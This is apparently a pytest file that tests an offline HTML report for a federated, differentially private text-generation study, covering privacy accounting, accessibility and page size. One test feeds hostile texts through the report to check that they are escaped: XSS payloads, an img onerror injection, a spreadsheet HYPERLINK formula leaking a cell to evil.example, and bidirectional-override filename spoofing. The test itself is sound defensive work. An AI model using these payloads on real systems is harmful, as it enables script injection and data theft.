"""The HTML report, read without a browser: complete, true, bounded, and deaf to what hostile texts say."""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Mapping
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from flwr.app import Context, RecordDict
from typer.testing import CliRunner

import server.server_app
from common.errors import DataError, MissingExtraError
from server.cli import app
from server.html_report import write_html_report
from server.html_report.codes import code_rows
from server.html_report.material import read_material
from server.html_report.palette import BANDS, GROUND, MARKS, TEXT
from server.html_report.visible import marked, plain
from server.progress import ProgressReader
from server.quality import Quality, QualityNumber, write_quality
from server.workspace import Workspace
from tests.finished_run import finished_run, hostile_run
from tests.hospitals import small_study, write_study
from tests.html_tree import Node, read_html
from tests.in_process import InProcessGrid

QUALITY = Quality(
    numbers=(
        QualityNumber(name="topic accuracy", value=0.7, low=0.66, high=0.74, floor=0.2, ceiling=0.9,
                      direction="higher", note="floor: the largest topic"),
        QualityNumber(name="membership attack, AUC", value=0.52, floor=0.5, ceiling=1.0, direction="lower"),
        QualityNumber(name="<b>perplexity</b>", value=60.0, floor=5.0, ceiling=50.0, direction="lower"),
    ),
    note="On 400 held-out comments.",
)  # fmt: skip


def _page(space: Workspace) -> Node:
    return read_html(write_html_report(space).read_text(encoding="utf-8"))


def _section(page: Node, name: str) -> Node:
    return page.one("section", id=name)


@pytest.fixture(scope="module")
def space(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """A run with everything in it: a hole, a site that never answered, an evaluation."""
    made = finished_run(
        tmp_path_factory.mktemp("report") / "run", wanted=8, made=(6, 8, 8), weak=3, silent=("weak-2",), votes=40
    )
    write_quality(made, QUALITY)
    return made


@pytest.fixture(scope="module")
def page(space: Workspace) -> Node:
    return _page(space)


def test_it_asks_for_nothing_from_outside(space: Workspace, page: Node) -> None:
    text = write_html_report(space).read_text(encoding="utf-8")
    links = [
        node.attributes[name]
        for node in page.all()
        for name in ("src", "href", "data", "action")
        if name in node.attributes
    ]
    assert links
    assert all(link.startswith("#") or link == "data:," for link in links)
    assert "http" not in re.sub(r"HTTP-EQUIV|http-equiv", "", text), "no address at all, not even of a name space"
    assert not re.search(r"@import|url\((?!#)", text)
    policy = page.one("meta", http_equiv="Content-Security-Policy").attributes["content"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy
    assert not page.all("iframe", "object", "embed", "img", "form", "base")


def test_it_says_what_was_asked_and_what_came(page: Node) -> None:
    asked = _section(page, "asked").text()
    assert "Study small asked for 24 texts under 3 control codes (topic)." in asked
    assert "2 strong sites fine-tuned /nowhere over 2 rounds of 2 DP-SGD steps (LoRA, rank 2); 3 weak sites" in asked
    assert "22 of 24 texts were made; 2 are missing in staff." in asked
    assert _section(page, "asked").one("table").rows() == [
        ["parking", "8", "8", "7", "1", "0", "0"],
        ["food", "8", "8", "7", "1", "0", "0"],
        ["staff", "8", "6", "5", "1", "0", "2"],
        ["all codes", "24", "22", "19", "3", "0", "2"],
    ]
    figures = page.one("dl").text()
    for words in ("texts made22of 24 asked", "texts missing2", "weak sites32 answered", "ε at most8.000", "δ0.0001"):
        assert words.replace(" ", "") in figures.replace(" ", "")
    assert "site weak-2 (weak): no answer in time" in page.one("aside").text()


def test_proportions_carry_the_noise_of_what_they_follow(space: Workspace, page: Node) -> None:
    rows, _, _ = code_rows(read_material(space))
    table = _section(page, "proportions").one("table").rows()
    assert [row[0] for row in table] == ["parking", "food", "staff"]
    assert [row[4:6] for row in table] == [["33.3 %", "36.4 %"], ["33.3 %", "36.4 %"], ["33.3 %", "27.3 %"]]
    for row in rows:
        assert row.profile == 30 * 4
        assert row.share_low < row.size / sum(each.size for each in rows) < row.share_high
        # Four sites' noise; votes are a second measurement of two of them, so it is less than the profiles' alone.
        alone = (4 * read_material(space).plan(read_material(space).summary.sites[-2]).profile.scale ** 2) ** 0.5
        assert alone / 2**0.5 < row.size_noise < alone


def test_votes_are_read_against_their_noise(tmp_path: Path, page: Node) -> None:
    votes = _section(page, "votes").text()
    assert "2 sites cast at most 1 vote a record" in votes
    assert "In 3 of 3 codes the candidates differ by more than noise explains" in votes
    nothing = _section(_page(finished_run(tmp_path, votes=-2)), "votes").text()
    assert "In 0 of 3 codes the candidates differ by more than noise explains: the votes hardly choose." in nothing


def test_privacy_cost_grows_to_what_the_study_allows(page: Node) -> None:
    section = _section(page, "privacy")
    cost, sites = section.all("table")
    rows = [(who, after, float(epsilon)) for who, after, epsilon in cost.rows()]
    assert [row[:2] for row in rows] == [
        ("strong, size class 20 (2 sites)", "round 1"),
        ("strong, size class 20 (2 sites)", "round 2"),
        ("weak (3 sites)", "the vote"),
    ]
    assert 0 < rows[0][2] < rows[1][2] <= 8
    assert "2,981 for ε = 8.000" in section.text(), "e^8"
    of_its_answers = {row[0]: row[-3:] for row in sites.rows()}
    assert of_its_answers["weak-2"][0] == "0.000"
    assert of_its_answers["weak-2"][1] == of_its_answers["weak-0"][0], "asked, so it may have charged itself"
    assert float(of_its_answers["strong-0"][0]) == rows[1][2]


def test_every_release_of_every_site_is_listed(page: Node) -> None:
    rows = [tuple(row[:4]) for row in _section(page, "releases").one("table").rows()]
    assert rows == [
        *(
            (f"strong-{i}", "strong", what, when)
            for i in range(2)
            for what, when in (
                ("noisy profile", "first answer"),
                ("noisy adapter", "round 1"),
                ("noisy adapter", "round 2"),
            )
        ),
        *((f"weak-{i}", "weak", f"noisy {what}", "vote") for i in range(2) for what in ("profile", "ballot")),
    ]
    assert "Nothing came from weak-2." in _section(page, "releases").text()
    sizes = {row[2]: row[4:6] for row in _section(page, "releases").one("table").rows()}
    assert sizes == {
        "noisy profile": ["3", "24 bytes"], "noisy adapter": ["64", "256 bytes"], "noisy ballot": ["24", "192 bytes"],
    }  # fmt: skip


def test_quality_numbers_have_their_floor_ceiling_and_direction(page: Node) -> None:
    section = _section(page, "quality")
    assert "On 400 held-out comments." in section.text()
    assert section.one("table").rows() == [
        ["topic accuracy", "0.7", "0.66 to 0.74", "0.2", "0.9", "higher", "floor: the largest topic"],
        ["membership attack, AUC", "0.52", "–", "0.5", "1", "lower", ""],
        ["<b>perplexity</b>", "60", "–", "5", "50", "lower", ""],
    ]
    assert "nearest to the good end is membership attack, AUC. 1 lies beyond its range" in section.text()


def test_the_record_says_which_run_this_is(space: Workspace, page: Node) -> None:
    hashes, _, versions, options = _section(page, "record").all("table")
    assert read_material(space).study.sha256 in {row[-1] for row in hashes.rows()}
    assert {"study.json", "pool.jsonl", "profiles.json", "ballots.npz", "corpus.parquet"} <= {
        row[1] for row in hashes.rows()
    }
    assert ["flwr", "1.42.0", "at the coordinator, in the run"] in versions.rows()
    assert ["training.rounds", "2 (default 3)"] in [row[:2] for row in options.rows()]


def test_every_text_of_a_small_corpus_can_be_searched_by_code(page: Node) -> None:
    section = _section(page, "samples")
    assert "All 22 texts of the corpus are here." in section.text()
    assert [option.text() for option in section.all("option")] == [
        "all codes", "topic=staff", "topic=parking", "topic=food",
    ]  # fmt: skip
    texts = section.one("ol", id="texts").all("li")
    assert [text.attributes["data-code"] for text in texts] == ["0"] * 6 + ["1"] * 8 + ["2"] * 8
    assert texts[0].text() == "topic=staff generated after the vote One."


def test_it_is_named_for_a_screen_reader(page: Node) -> None:
    _check_names(page)
    assert page.one("html").attributes["lang"] == "en"
    assert page.one("p", id="found").attributes["aria-live"] == "polite"


def _check_names(page: Node) -> None:
    ids = [node.attributes["id"] for node in page.all() if "id" in node.attributes]
    assert len(ids) == len(set(ids))
    assert all(node.attributes["href"][1:] in ids for node in page.one("nav").all("a"))
    drawings = page.all("svg")
    assert len(drawings) % 2 == 0
    for drawing in drawings:
        assert drawing.attributes["role"] == "img"
        named = drawing.attributes["aria-labelledby"].split()
        assert [part.tag for part in drawing.content if isinstance(part, Node)][:2] == ["title", "desc"]
        assert all(page.one("title", "desc", id=name).text() for name in named)
    for table in page.all("table"):
        assert table.one("caption").text()
        assert all(head.attributes["scope"] == "col" for head in table.one("thead").all("th"))
        assert all(row.all("th")[0].attributes["scope"] == "row" for row in table.one("tbody").all("tr"))
    labels = {label.attributes["for"] for label in page.all("label")}
    assert labels == {field.attributes["id"] for field in page.all("input", "select")}
    levels = [int(heading.tag[1]) for heading in page.all("h1", "h2", "h3", "h4")]
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels)), "no level is left out"


@pytest.mark.parametrize("mode", ["light", "dark"])
def test_colours_stand_out_from_every_ground(mode: str) -> None:
    grounds = [getattr(GROUND[name], mode) for name in ("paper", "raised")]
    for ground in grounds:
        assert all(_contrast(getattr(shade, mode), ground) >= 4.5 for shade in TEXT.values())
    marks = [getattr(shade, mode) for shade in MARKS.values()]
    assert all(_contrast(mark, getattr(GROUND["paper"], mode)) >= 3 for mark in marks)
    assert _contrast(getattr(TEXT["ink"], mode), getattr(BANDS["band"], mode)) >= 4.5


def _contrast(one: str, other: str) -> float:
    """WCAG 2's contrast ratio."""

    def luminance(colour: str) -> float:
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_hostile_texts_and_names_are_words_and_nothing_else(tmp_path: Path) -> None:
    space = hostile_run(tmp_path)
    written = write_html_report(space).read_text(encoding="utf-8")
    page = read_html(written)
    _check_names(page)
    assert len(page.all("script")) == 1
    assert not page.all("img", "iframe", "form", "b")
    assert not [name for node in page.all() for name in node.attributes if name.startswith("on") or name == "style"]
    hidden = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
    assert not hidden.search(written)
    texts = [item.all("p")[1].raw() for item in page.one("ol", id="texts").all("li")]
    for words in (
        "<script>window.hit = 1</script>", '"><img src=x onerror="window.hit = 1">', "</script></style></bdi>",
        "abc U+202Egnp.exeU+202C U+2066xU+2069 U+200F", '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "nul U+0000 bell U+0007 escape U+001B[2J c1 U+009B", "{{ 7 * 7 }} {% raw %} $\\frac{1}{0}$ &lt;b&gt;",
        "w" * 1500 + " … 198,500 more characters", "line one\nline twoU+2028line three", "U+E0041 tag, U+FEFF mark",
        "<!-- <![CDATA[ ]]> -->",
    ):  # fmt: skip
        assert any(words in text for text in texts), words
    assert all(item.all("p")[1].all("bdi", dir="auto") for item in page.one("ol", id="texts").all("li"))


CASES: dict[str, Mapping[str, Any]] = {
    "one code, one site, one candidate": {"values": ["only"], "per_code": 1, "strong": 1, "weak": 0, "rounds": 1},
    "patients": {"unit": "patient"},
    "nobody answered the vote": {"silent": ("weak-0", "weak-1")},
    "nothing but negative counts": {"profile": -5, "votes": -2},
    "no text at all": {"made": 0},
    "votes that are absurd": {"votes": 2**61},
    "no round on record": {"summary": {"rounds": ()}},
    "no site was asked": {"summary": {"epsilon": 0.0, "delta": 0.0, "sites": ()}},
    "many rounds": {"rounds": 100},
}
SAID = {
    "one code, one site, one candidate": "No site voted, so nothing ranks the candidates",
    "patients": "Every site counted its patients under each code",
    "nobody answered the vote": "Nothing came from weak-0 and weak-1.",
    "nothing but negative counts": "No code's noisy size is above zero",
    "no text at all": "No text was made.",
    "votes that are absurd": "24 of 24 candidates stand out",
    "no round on record": "No training round is on record.",
    "no site was asked": "0 strong sites fine-tuned",
    "many rounds": "60 rounds are drawn, at even distances.",
}


@pytest.mark.parametrize("case", CASES)
def test_unusual_runs_have_a_report_too(case: str, tmp_path: Path) -> None:
    page = _page(finished_run(tmp_path, **CASES[case]))
    _check_names(page)
    assert len(page.one("main").all("section")) == 9
    words = page.one("main").text()
    assert SAID[case] in words
    assert not re.search(r"\b(nan|inf|None(?! is missing)|undefined)\b", words)


def test_two_hundred_codes_and_three_hundred_sites_are_summed_up(tmp_path: Path) -> None:
    silent = ("strong-3", "strong-77", "weak-9")
    space = finished_run(
        tmp_path,
        values=[f"v{i}" for i in range(200)],
        texts=("A text.",),
        strong=150,
        weak=150,
        silent=silent,
        rounds=10,
        per_code=4,
    )
    html = write_html_report(space)
    assert html.stat().st_size < 1_000_000
    page = read_html(html.read_text(encoding="utf-8"))
    assert "170 more codes" in _section(page, "asked").text()
    assert "200 of 1,200 texts are here, from 200 of 200 codes" in _section(page, "samples").text()
    releases = _section(page, "releases").one("table").rows()
    assert {row[0] for row in releases} == {site.name for site in read_material(space).summary.sites} - set(silent)
    assert len(releases) == 297 * 2, "a site's rounds together, beside its profile"
    assert ["strong-0", "strong", "noisy adapter", "rounds 1–10", "640", "2.6 kB"] in [row[:6] for row in releases]
    drawn = page.one("figure", id="figure-releases").all("svg")[0]
    names = {text.text() for text in drawn.all("text")}
    assert set(silent) <= names, "of many sites those with gaps are drawn"
    assert len([name for name in names if re.match(r"(strong|weak)-\d", name)]) == 30


def test_the_largest_page_that_a_run_can_have_is_bounded(tmp_path: Path) -> None:
    """Every list longer than what is shown of it, every text too, and every character one that has to be named."""
    space = finished_run(
        tmp_path,
        values=[f"{i} {'<' * 300}" for i in range(400)],
        texts=("\u2066" * 3000, "&" * 3000, "word " * 600),
        strong=400, weak=400, made=1, wanted=1, per_code=1,
        summary={"warnings": ("\u202e" * 5000,) * 1000},
    )  # fmt: skip
    html = write_html_report(space)
    page = read_html(html.read_text(encoding="utf-8"))
    assert "950 more notes are in summary.json." in page.one("aside").text()
    assert "(the first 500 of 800; all are in summary.json)" in _section(page, "privacy").text()
    assert "Releases (the first 1,500 of 1,600 rows)" in _section(page, "releases").text()
    assert "1,500 more characters" in _section(page, "samples").text()
    assert 2_000_000 < html.stat().st_size < 5_000_000


def test_a_folder_without_a_finished_run_is_refused(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="no run that has finished"):
        write_html_report(Workspace(tmp_path))
    space = finished_run(tmp_path / "run")
    space.study.write_text(space.study.read_text().replace('"seed":0', '"seed":1'))
    with pytest.raises(DataError, match="the folder was changed"):
        write_html_report(space)


def test_without_the_libraries_that_draw_it_says_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    space = finished_run(tmp_path)
    for name in ("server.html_report.page", "server.html_report.svg", "server.html_report.canvas"):
        monkeypatch.delitem(sys.modules, name, raising=False)
    monkeypatch.setitem(sys.modules, "jinja2", None)
    with pytest.raises(MissingExtraError, match=r"jinja2 isn't installed; pip install \"fedcorpus\[coordinator\]\""):
        write_html_report(space)


def test_a_run_ends_with_its_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    space = _end_of_a_run(tmp_path, monkeypatch, lambda made: None)
    assert "Study small" in space.report.read_text(encoding="utf-8")
    assert [event["event"] for event in ProgressReader(space.progress).new_events()] == ["finished"]


def test_a_report_that_fails_is_noted_and_the_run_is_finished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    space = _end_of_a_run(tmp_path, monkeypatch, lambda made: made.pool.write_text("[]"))
    assert not space.report.exists()
    note, last = ProgressReader(space.progress).new_events()
    assert re.match(r"report\.html wasn't written \(DataError: .*\); 'fedcorpus report' tries again", note["text"])
    assert last["event"] == "finished"


def _end_of_a_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: Any) -> Workspace:
    """Flower's entry to a run that takes no time."""
    study = write_study(tmp_path, small_study(Path("/nowhere")))
    monkeypatch.setattr(server.server_app, "run_study", lambda _, run: damage(finished_run(run.workspace.root)))
    options = {"study": str(study), "workspace": str(tmp_path / "run"), "coordinator-state": "", "resume": ""}
    server.server_app.app(InProcessGrid({}), Context(1, 1, {}, RecordDict(), options))
    return Workspace(tmp_path / "run")


def test_the_command_writes_the_same_file_where_it_is_told(tmp_path: Path) -> None:
    space, out = finished_run(tmp_path / "run"), tmp_path / "r.html"
    done = CliRunner().invoke(app, ["report", str(space.root), "--out", str(out)])
    assert (done.exit_code, "".join(done.stdout.split())) == (0, str(out))
    done = CliRunner().invoke(app, ["report", str(space.root), "--json"])
    assert json.loads(done.stdout) == {"report": str(space.report)}
    assert out.read_bytes() == space.report.read_bytes()
    assert isinstance(CliRunner().invoke(app, ["report", str(tmp_path)]).exception, DataError)


def test_hidden_characters_become_visible() -> None:
    assert plain("a\u202eb\x00\n c") == "a[U+202E]b[U+0000] c"
    assert str(marked("<b>\u200b")) == (
        '<bdi dir="auto">&lt;b&gt;<span class="token" title="zero width space">U+200B</span></bdi>'
    )
    assert plain("100\u00a0% é 日本 👍") == "100\u00a0% é 日本 👍"
